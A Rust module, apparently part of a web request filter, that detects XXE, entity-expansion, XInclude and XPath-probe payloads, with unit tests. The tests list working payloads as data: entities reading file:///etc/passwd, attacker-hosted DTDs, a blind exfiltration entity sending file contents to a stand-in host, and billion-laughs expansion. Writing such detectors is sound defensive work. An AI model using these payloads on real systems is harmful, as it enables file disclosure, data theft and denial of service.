//! XML external entities (XXE), entity expansion and XInclude.
//!
//! Input: a normalized value (lower-case, blanks folded) and its byte classes. Output: confirmed
//! or suspicious.
//!
//! A DOCTYPE only takes effect at the start of a document, so the value must be one: after
//! blanks, a BOM, the XML declaration, comments and processing instructions comes `<!DOCTYPE`
//! (or `<!ENTITY`, a DTD sent as the value). Confirmed there: an external entity
//! (`<!ENTITY x SYSTEM "file:///etc/passwd">`, `PUBLIC "…" "…"`, relative names included) unless
//! it names a published entity set on a standards host (Drupal's RSS feeds declare XHTML's
//! Latin-1 set from w3.org); a parameter entity that the document uses or that declares another
//! (`<!ENTITY % x …> %x;`, the tools of blind and error-based XXE); an entity whose text refers to
//! two or more entities (the "billion laughs" expansion); an external DTD subset read from a file
//! or wrapper, or by `SYSTEM` from a web host that does not publish DTDs
//! (`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">`). `PUBLIC` identifiers (XHTML, SVG,
//! plists, Hibernate), relative DTD names and any other DOCTYPE but `<!DOCTYPE html>` are
//! suspicious, and so is an entity declaration inside text (a developer's question about DTDs,
//! which no XML parser would read as one). A plain XML document is nothing.
//!
//! XInclude works inside a document, so a value pasted into one can use it: confirmed when the
//! value names the XInclude namespace and has an `include` element that reads a file as text
//! (`parse="text"`) or whose `href` is absolute (`file:///etc/passwd`, `/etc/passwd`, a URL) or
//! climbs (`../`); other includes, or one without the namespace, are suspicious.

use super::classes::{self, Mask};

/// Comments and processing instructions skipped before the DOCTYPE, at most.
const MAX_PROLOG_ITEMS: usize = 16;
/// Entity declarations looked at per value.
const MAX_ENTITIES: usize = 64;
/// `include` elements looked at per value.
const MAX_INCLUDES: usize = 32;
/// Bytes of a tag searched for its attributes.
const MAX_TAG: usize = 512;

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\n' | b'\t' | b'\r')
}

fn skip_blanks(s: &[u8], mut i: usize) -> usize {
    let from = i;
    while i < s.len() && is_blank(s[i]) {
        i += 1;
    }
    classes::tick(i - from);
    i
}

fn name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':') || b >= 0x80
}

/// Where the first declaration or element of a document starts: after blanks, a BOM, the XML
/// declaration, comments and processing instructions.
fn prolog_end(s: &[u8]) -> usize {
    let mut i = if s.starts_with(&[0xEF, 0xBB, 0xBF]) { 3 } else { 0 };
    for _ in 0..MAX_PROLOG_ITEMS {
        i = skip_blanks(s, i);
        let rest = &s[i..];
        let close: &[u8] = if rest.starts_with(b"<?") {
            b"?>"
        } else if rest.starts_with(b"<!--") {
            b"-->"
        } else {
            return i;
        };
        match classes::find(&rest[2..], close) {
            Some(k) => i += 2 + k + close.len(),
            None => return s.len(),
        }
    }
    i
}

/// The quoted literal at `s[i]`: its text and the index after its closing quote.
fn literal(s: &[u8], i: usize) -> Option<(&[u8], usize)> {
    let q = *s.get(i)?;
    if q != b'"' && q != b'\'' {
        return None;
    }
    let end = i + 1 + classes::find_byte(q, &s[i + 1..])?;
    Some((&s[i + 1..end], end + 1))
}

/// An external identifier at `s[i..]` (`SYSTEM "uri"` or `PUBLIC "id" ["uri"]`): whether there is
/// one, its system literal if any, whether it is `PUBLIC`, and the index after it.
fn external_id(s: &[u8], i: usize) -> Option<(Option<&[u8]>, bool, usize)> {
    let public = s[i..].starts_with(b"public");
    if !public && !s[i..].starts_with(b"system") {
        return None;
    }
    let j = skip_blanks(s, i + 6);
    let (first, mut end) = literal(s, j).map_or((None, j), |(l, e)| (Some(l), e));
    if !public {
        return Some((first, false, end));
    }
    let k = skip_blanks(s, end);
    let system = literal(s, k).map(|(l, e)| {
        end = e;
        l
    });
    Some((system, true, end))
}

/// The URI scheme of `uri`, if it starts with one.
fn scheme(uri: &[u8]) -> Option<&[u8]> {
    let n = uri.iter().take(16).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'.' | b'-')).count();
    (n > 1 && uri[0].is_ascii_alphabetic() && uri.get(n) == Some(&b':')).then(|| &uri[..n])
}

/// Hosts of published DTDs and entity sets (XHTML, SVG, MathML, DocBook, plists…), which
/// ordinary documents name and whose fetch reads nothing of the server's.
const STANDARD_HOSTS: &[&[u8]] = &[b"www.w3.org/", b"w3.org/", b"www.oasis-open.org/", b"docs.oasis-open.org/", b"www.docbook.org/", b"docbook.org/", b"www.apple.com/dtds/", b"java.sun.com/dtd/"];

/// Where a system literal points.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Target {
    /// A file, a wrapper, gopher…: any scheme but the web's, or an absolute path.
    Local,
    /// A web URL on a host other than the standards' (an attacker's DTD).
    Web,
    /// A published DTD or entity set.
    Standard,
    /// A relative name (`note.dtd`).
    Relative,
}

fn target(uri: &[u8]) -> Target {
    let uri = uri.trim_ascii();
    match scheme(uri) {
        Some(s @ (b"http" | b"https")) => {
            let rest = uri[s.len() + 1..].strip_prefix(b"//").unwrap_or(&uri[s.len() + 1..]);
            if STANDARD_HOSTS.iter().any(|h| rest.starts_with(h)) {
                Target::Standard
            } else {
                Target::Web
            }
        }
        // A URN names a DTD for a catalog to resolve (`urn:fontconfig:fonts.dtd`); it fetches nothing.
        Some(b"urn") => Target::Relative,
        Some(_) => Target::Local,
        None if uri.starts_with(b"/") || uri.starts_with(b"\\") => Target::Local,
        None => Target::Relative,
    }
}

/// Entity references (`&name;`, `%name;`) in `text`; `percent`: parameter entity references
/// only.
fn references(text: &[u8], percent: bool) -> usize {
    classes::tick(text.len());
    let mut n = 0;
    for (i, &b) in text.iter().enumerate() {
        if b == b'%' || (b == b'&' && !percent) {
            let name = text[i + 1..].iter().take(64).take_while(|&&c| name_byte(c) && c != b':').count();
            n += usize::from(name > 0 && text.get(i + 1 + name) == Some(&b';'));
        }
    }
    n
}

/// Judges the entity declarations in `s` from `from`. Returns (an entity that reads outside the
/// document, a parameter entity that is used or declares another, or an expansion, was declared;
/// any entity was declared).
fn entities(s: &[u8], from: usize) -> (bool, bool) {
    let mut any = false;
    let mut at = from;
    // Whether the document uses a parameter entity at all, found once.
    let mut used: Option<bool> = None;
    for _ in 0..MAX_ENTITIES {
        let Some(k) = classes::find(&s[at..], b"<!entity") else { break };
        any = true;
        let mut i = skip_blanks(s, at + k + 8);
        let parameter = s.get(i) == Some(&b'%');
        if parameter {
            i = skip_blanks(s, i + 1);
        }
        let name = s[i..].iter().take(64).take_while(|&&b| name_byte(b)).count();
        i = skip_blanks(s, i + name);
        if let Some((system, _, end)) = external_id(s, i) {
            // Any external entity reads a resource into the document, unless it is a published
            // entity set (Drupal's RSS feeds declare XHTML's Latin-1 set, and never use it).
            if system.is_none_or(|uri| target(uri) != Target::Standard) {
                return (true, true);
            }
            at = end;
            continue;
        }
        match literal(s, i) {
            Some((text, end)) => {
                let builds = parameter && classes::contains(text, b"<!entity");
                let uses = parameter && *used.get_or_insert_with(|| references(&s[from..], true) > 0);
                if builds || uses || references(text, false) >= 2 {
                    return (true, true);
                }
                at = end;
            }
            // A parameter entity cut short: nothing else declares one.
            None if parameter => return (true, true),
            None => at = i.max(at + k + 8),
        }
    }
    (false, any)
}

/// Judges the DOCTYPE at `s[at..]` (just after `<!doctype`). Returns (confirmed, suspicious).
fn doctype(s: &[u8], at: usize) -> (bool, bool) {
    let mut i = skip_blanks(s, at);
    let name = s[i..].iter().take(64).take_while(|&&b| name_byte(b)).count();
    let html = &s[i..i + name] == b"html";
    i = skip_blanks(s, i + name);
    let mut external = false;
    if let Some((system, public, end)) = external_id(s, i) {
        external = true;
        // An external subset read from a file or an attacker's host; `PUBLIC` identifiers name
        // published DTDs, whatever host their system literal gives.
        let reads = |uri: &[u8]| match target(uri) {
            Target::Local => true,
            Target::Web => !public,
            Target::Standard | Target::Relative => false,
        };
        if system.is_some_and(reads) {
            return (true, true);
        }
        i = skip_blanks(s, end);
    }
    let (confirmed, any) = entities(s, i);
    (confirmed, confirmed || any || external || !html || s.get(i) == Some(&b'['))
}

/// The value of attribute `name` in `tag` (quoted or not), if present.
fn attribute<'a>(tag: &'a [u8], name: &[u8]) -> Option<&'a [u8]> {
    let mut from = 0;
    while let Some(k) = classes::find(&tag[from..], name) {
        let at = from + k;
        from = at + name.len();
        if at > 0 && name_byte(tag[at - 1]) {
            continue;
        }
        let j = skip_blanks(tag, at + name.len());
        if tag.get(j) != Some(&b'=') {
            continue;
        }
        let v = skip_blanks(tag, j + 1);
        return Some(match literal(tag, v) {
            Some((text, _)) => text,
            None => {
                let n = tag[v..].iter().take_while(|&&b| !is_blank(b) && b != b'>' && b != b'/').count();
                &tag[v..v + n]
            }
        });
    }
    None
}

/// XInclude elements. Returns (confirmed, suspicious).
fn xinclude(s: &[u8]) -> (bool, bool) {
    let namespace = classes::contains(s, b"2001/xinclude");
    // Without the namespace only a prefixed element can be one (and is suspicious at most), so
    // the search can anchor on its `:`.
    let needle: &[u8] = if namespace { b"include" } else { b":include" };
    let skip = needle.len() - 7;
    let mut suspicious = false;
    let mut from = 0;
    for _ in 0..MAX_INCLUDES {
        let Some(k) = classes::find(&s[from..], needle) else { break };
        let at = from + k + skip;
        from = at + 7;
        // `<include` or `<prefix:include`, the prefix at most 32 bytes.
        classes::tick(32);
        let open = match s[..at].last() {
            Some(b'<') => true,
            Some(b':') => {
                let prefix = s[..at - 1].iter().rev().take(32).take_while(|&&b| name_byte(b) && b != b':').count();
                prefix > 0 && at >= prefix + 2 && s[at - 2 - prefix] == b'<'
            }
            _ => false,
        };
        if !open || s.get(at + 7).is_some_and(|&b| name_byte(b)) {
            continue;
        }
        let end = (at + 7 + MAX_TAG).min(s.len());
        let tag_end = classes::find_byte(b'>', &s[at + 7..end]).map_or(end, |e| at + 7 + e);
        let tag = &s[at + 7..tag_end];
        classes::tick(3 * tag.len());
        let Some(href) = attribute(tag, b"href") else { continue };
        suspicious = true;
        let text = attribute(tag, b"parse").is_some_and(|p| p.trim_ascii() == b"text");
        let href = href.trim_ascii();
        let absolute = scheme(href).is_some() || href.starts_with(b"/") || href.starts_with(b"\\") || classes::contains(href, b"..");
        if namespace && (text || absolute) {
            return (true, true);
        }
        from = tag_end.max(from);
    }
    (false, suspicious)
}

/// Looks for XXE in a normalized value. Returns (confirmed, suspicious).
/// A location step on an XPath axis after a `/` that tests any node (`/child::node()`,
/// `/descendant-or-self::*`, `/self::text()`), as a probe enumerates a document: Rust's and
/// C++'s paths (`self::x`, `Child::new`) have no slash before them, and an XSLT question names
/// its element (`//book/child::title`).
fn xpath_axis(s: &[u8]) -> bool {
    const AXES: &[&[u8]] = &[
        b"child", b"descendant", b"descendant-or-self", b"ancestor", b"ancestor-or-self", b"parent", b"self", b"following",
        b"following-sibling", b"preceding", b"preceding-sibling", b"attribute", b"namespace",
    ];
    memchr::memmem::find_iter(s, b"::").take(8).any(|i| {
        let head = &s[..i];
        let test = &s[i + 2..];
        AXES.iter().any(|a| head.strip_suffix(*a).is_some_and(|h| h.ends_with(b"/"))) && [&b"node()"[..], b"*", b"text()"].iter().any(|t| test.starts_with(t))
    })
}

pub fn detect(s: &[u8], mask: Mask, in_header: bool) -> (bool, bool) {
    if mask & classes::LT == 0 {
        // XPath's axes, which only an XPath injection's probe writes into a parameter
        // (`count(/child::node())`): a near miss of the XML family.
        return (false, mask & classes::COLON != 0 && xpath_axis(s));
    }
    let mut suspicious = false;
    // `<!` found from its `!`: markup-dense values have `<` everywhere.
    classes::tick(s.len());
    if memchr::memchr_iter(b'!', s).any(|i| i > 0 && s[i - 1] == b'<') {
        let mut start = prolog_end(s);
        // A header value (a user agent, a referer's query) is never a document, but an app that
        // logs it as XML or parses a parameter of it reads what follows: there a DOCTYPE counts
        // wherever it starts.
        if in_header && !s[start..].starts_with(b"<!") {
            start = classes::find(s, b"<!doctype").unwrap_or(start);
        }
        let head = &s[start..];
        if head.starts_with(b"<!doctype") {
            let (c, sus) = doctype(s, start + 9);
            if c {
                return (true, true);
            }
            suspicious |= sus;
        } else if head.starts_with(b"<!entity") {
            let (c, any) = entities(s, start);
            if c {
                return (true, true);
            }
            suspicious |= any;
        } else if classes::contains(s, b"<!entity") {
            // A declaration inside text is not read as one.
            suspicious = true;
        }
    }
    if mask & classes::EQ != 0 {
        let (c, sus) = xinclude(s);
        if c {
            return (true, true);
        }
        suspicious |= sus;
    }
    (false, suspicious)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xpath_axes_after_a_slash_are_a_near_miss() {
        for t in ["count(/child::node())", "//user[name/text()='a']/descendant-or-self::*"] {
            assert_eq!(detect(t.as_bytes(), classes::mask(t.as_bytes()), false), (false, true), "{t}");
        }
        for t in ["use self::parser;", "let c = Child::new();", "see https://x.example/a::b", "use //book/child::title in the xslt"] {
            assert_eq!(detect(t.as_bytes(), classes::mask(t.as_bytes()), false), (false, false), "{t}");
        }
    }

    #[test]
    fn a_doctype_anywhere_in_a_header_value_is_judged() {
        let ua = "mozilla/5.0 (x11; linux x86_64) chrome/131.0.0.0 safari/537.36 <!doctype foo [<!entity xxe system \"file:///etc/passwd\">]><foo>&xxe;</foo>";
        assert_eq!(detect(ua.as_bytes(), classes::mask(ua.as_bytes()), true), (true, true));
        assert!(!detect(ua.as_bytes(), classes::mask(ua.as_bytes()), false).0, "in a body it is quoted text");
        for t in [
            "https://docs.example/?q=<!doctype html><html>",
            "mozilla/5.0 <!doctype x public \"-//w3c//dtd xhtml 1.0 strict//en\" \"http://www.w3.org/tr/xhtml1/dtd/xhtml1-strict.dtd\">",
        ] {
            assert!(!detect(t.as_bytes(), classes::mask(t.as_bytes()), true).0, "{t}");
        }
    }

    fn xxe(s: &str) -> (bool, bool) {
        let l = s.to_ascii_lowercase();
        detect(l.as_bytes(), classes::mask(l.as_bytes()), false)
    }

    #[test]
    fn external_and_parameter_entities_in_a_document_are_confirmed() {
        for p in [
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE root [\n  <!ENTITY x SYSTEM 'http://attacker.example/x'>\n]>\n<root>&x;</root>",
            "<?xml version=\"1.0\"?><!-- c --><!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://x.example/evil.dtd\"> %ext;]><r/>",
            "<!DOCTYPE r [<!ENTITY % a '<!ENTITY &#x25; b SYSTEM \"file:///nonexistent/%c;\">'> %a; %b;]>",
            "<!DOCTYPE x [<!ENTITY p PUBLIC \"-//A//B\" \"php://filter/read=convert.base64-encode/resource=index.php\">]><x>&p;</x>",
            "<!DOCTYPE data SYSTEM \"http://attacker.example/evil.dtd\"><data>&e;</data>",
            "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"config.php\">]><x>&e;</x>",
            "<!DOCTYPE x [<!ENTITY % p PUBLIC \"-//W3C//x\" \"http://attacker.example/x.dtd\"> %p;]><x/>",
            "<!DOCTYPE r [<!ENTITY % local PUBLIC \"x\" \"file:///usr/share/yelp/dtd/docbookx.dtd\">]><r/>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://x.example/?x=%file;'>\">%eval;%exfil;",
            "\u{FEFF}<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>",
        ] {
            assert!(xxe(p).0, "{p}");
        }
    }

    #[test]
    fn xinclude_reading_a_file_is_confirmed() {
        for p in [
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<x xmlns:inc=\"http://www.w3.org/2001/XInclude\"><inc:include href='/etc/passwd' parse='text'/></x>",
            "<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"../../../etc/passwd\"/>",
        ] {
            assert!(xxe(p).0, "{p}");
        }
    }

    #[test]
    fn documents_and_prose_without_external_entities_stay_unconfirmed() {
        for t in [
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>42</id><note>a &amp; b</note></order>",
            "<!DOCTYPE html><html><body><p>Hi</p></body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
            "<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE fontconfig SYSTEM \"urn:fontconfig:fonts.dtd\">\n<fontconfig/>",
            "<!DOCTYPE note [<!ELEMENT note (#PCDATA)><!ENTITY copy \"&#169;\">]><note>&copy;</note>",
            "How do I declare <!ENTITY foo SYSTEM \"file.xml\"> in my DTD? My XML parser ignores it.",
            "I use <xi:include href=\"chapter1.xml\"/> with xmlns:xi=\"http://www.w3.org/2001/XInclude\"",
            "<LinearLayout><include layout=\"@layout/toolbar\"/></LinearLayout>",
            "The <!DOCTYPE> declaration is not an HTML tag; it tells the browser what to expect.",
            "#include <stdio.h>",
            // Drupal's RSS feeds: XHTML's Latin-1 entity set, declared and never used.
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]>\n<rss version=\"2.0\"><channel><title>x</title></channel></rss>",
            "<!DOCTYPE svg SYSTEM \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
            "<!DOCTYPE hibernate-configuration PUBLIC \"-//Hibernate/Hibernate Configuration DTD 3.0//EN\" \"http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd\"><hibernate-configuration/>",
            "<!DOCTYPE d [<!ENTITY % draft 'IGNORE'>]><d/>",
            // Adobe Illustrator's SVG export: internal entities for its namespaces.
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- Generator: Adobe Illustrator 15.0.0, SVG Export Plug-In  -->\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\t<!ENTITY ns_extend \"http://ns.adobe.com/Extensibility/1.0/\">\n\t<!ENTITY ns_ai \"http://ns.adobe.com/AdobeIllustrator/10.0/\">\n]>\n<svg xmlns:x=\"&ns_extend;\" xmlns:i=\"&ns_ai;\"></svg>",
        ] {
            assert!(!xxe(t).0, "{t}");
        }
        assert_eq!(xxe("<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>"), (false, true));
        assert_eq!(xxe("How do I declare <!ENTITY foo SYSTEM \"file.xml\"> in my DTD?"), (false, true));
        assert_eq!(xxe("<?xml version=\"1.0\"?><a>b</a>"), (false, false));
        assert_eq!(xxe("<!DOCTYPE html><p>x</p>"), (false, false));
    }

    #[test]
    fn truncated_declarations_end_the_scan() {
        for t in ["<!DOCTYPE", "<!DOCTYPE x [<!ENTITY", "<!DOCTYPE x [<!ENTITY a \"&b;", "<?xml", "<!--", "<x:include href", "<x:include"] {
            let _ = xxe(t);
        }
        assert!(xxe("<!DOCTYPE x [<!ENTITY % a").0, "a parameter entity, even cut short");
        assert_eq!(xxe("<!DOCTYPE d [<!ENTITY % draft 'IGNORE'>]><d/>"), (false, true), "declared, never used");
    }
}
